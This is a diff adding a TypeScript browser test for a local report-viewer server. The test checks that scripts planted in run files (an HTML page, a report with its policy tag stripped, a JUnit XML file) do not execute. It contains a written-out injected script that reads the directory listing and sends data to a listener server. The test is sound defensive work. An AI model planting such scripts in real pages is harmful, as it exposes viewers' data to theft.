@@ -1,0 +1,108 @@
+/// <reference lib="dom" />
+import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { type Browser, chromium } from 'playwright-core';
+import { afterAll, afterEach, beforeAll, beforeEach, expect, it } from 'vitest';
+import { fixtureLog } from '../../reports/fixture/fixture-log.ts';
+import { renderHtml } from '../../reports/index.ts';
+import { RunIndex } from '../../src/history/run-index.ts';
+import { writeLogFile } from '../../src/log/rewrite-log.ts';
+import { viewPages } from './view-pages.ts';
+import { startViewServer, type ViewServer } from './view-server.ts';
+
+const OWN = renderHtml(fixtureLog(), { lang: 'en' });
+
+let browser: Browser;
+let results: string;
+let index: RunIndex;
+let server: ViewServer;
+beforeAll(async () => {
+	browser = await chromium.launch({
+		executablePath: process.env.GEMMARK_CHROMIUM ?? '/usr/bin/chromium',
+		args: ['--no-sandbox', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-sync'],
+	});
+});
+afterAll(() => browser.close());
+beforeEach(async () => {
+	results = mkdtempSync(join(tmpdir(), 'gemmark-strange-'));
+	mkdirSync(join(results, 'run'));
+	writeLogFile(join(results, 'run', 'log.jsonl'), fixtureLog());
+	index = new RunIndex(results);
+	server = await startViewServer(viewPages(index, 'en'), 0);
+});
+afterEach(async () => {
+	await server.close();
+	index.close();
+	rmSync(results, { recursive: true });
+});
+
+const thief = (port: number): string =>
+	`fetch('../').then((list) => list.text()).then((text) => fetch('http://127.0.0.1:${port}/?' + encodeURIComponent(location.href + text.length), { mode: 'no-cors' }));
+	document.title = 'ran';`;
+
+it.each<[string, file: string, page: (script: string) => string]>([
+	['page of their own', 'report.html', (script) => `<!doctype html><title>theirs</title><script>${script}</script>`],
+	[
+		'report of ours without its policy',
+		'report.html',
+		(script) => OWN.replace(/<meta http-equiv[^>]*>/u, '').replace('</body>', `<script>${script}</script></body>`),
+	],
+	[
+		'JUnit file',
+		'junit.xml',
+		(script) => `<r><script xmlns="http://www.w3.org/1999/xhtml"><![CDATA[${script}]]></script></r>`,
+	],
+])('the script that somebody put into a %s of a run does not run', async (_, file, made) => {
+	const asked: string[] = [];
+	const elsewhere = createServer((request, response) => {
+		asked.push(request.url ?? '');
+		response.end();
+	});
+	await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
+	const page = await browser.newPage();
+	try {
+		writeFileSync(join(results, 'run', file), made(thief((elsewhere.address() as AddressInfo).port)));
+		await page.goto(server.url);
+		await page.goto(`${server.url}run/${file}`);
+		await page.waitForTimeout(500);
+		expect(await page.title()).not.toBe('ran');
+		expect(asked).toEqual([]);
+	} finally {
+		await page.close();
+		elsewhere.close();
+	}
+});
+
+it.each(['as it was written', 'made of its log'])(
+	'a report of ours works under the policy, %s: links, search, conversations and the way back',
+	async (how) => {
+		if (how === 'as it was written') {
+			writeFileSync(join(results, 'run', 'report.html'), OWN.replace('<b>', '<b id="mark">'));
+		}
+		const page = await browser.newPage();
+		const wrong: string[] = [];
+		page.on('console', (message) => message.type() === 'error' && wrong.push(message.text()));
+		page.on('pageerror', (error) => wrong.push(error.message));
+		try {
+			await page.goto(server.url);
+			await page.locator('a[href="run/report.html"]').first().click();
+			await page.locator('#find-text').waitFor();
+			expect(await page.locator('#mark').count()).toBe(how === 'as it was written' ? 1 : 0);
+			expect(await page.evaluate(() => origin)).toBe('null');
+			await page.locator('#find-text').fill('명상');
+			await page.waitForFunction(() => location.hash.startsWith('#samples?'));
+			await page.locator('#found summary').first().click();
+			await page.locator('#found .permalink').first().click();
+			await page.waitForFunction(() => location.hash.startsWith('#sample-'));
+			expect(await page.locator('#found .step').count()).toBeGreaterThan(0);
+			await page.getByRole('link', { name: 'All runs' }).click();
+			await page.locator('tr[data-row=run]').waitFor();
+			expect(wrong).toEqual([]);
+		} finally {
+			await page.close();
+		}
+	},
+);
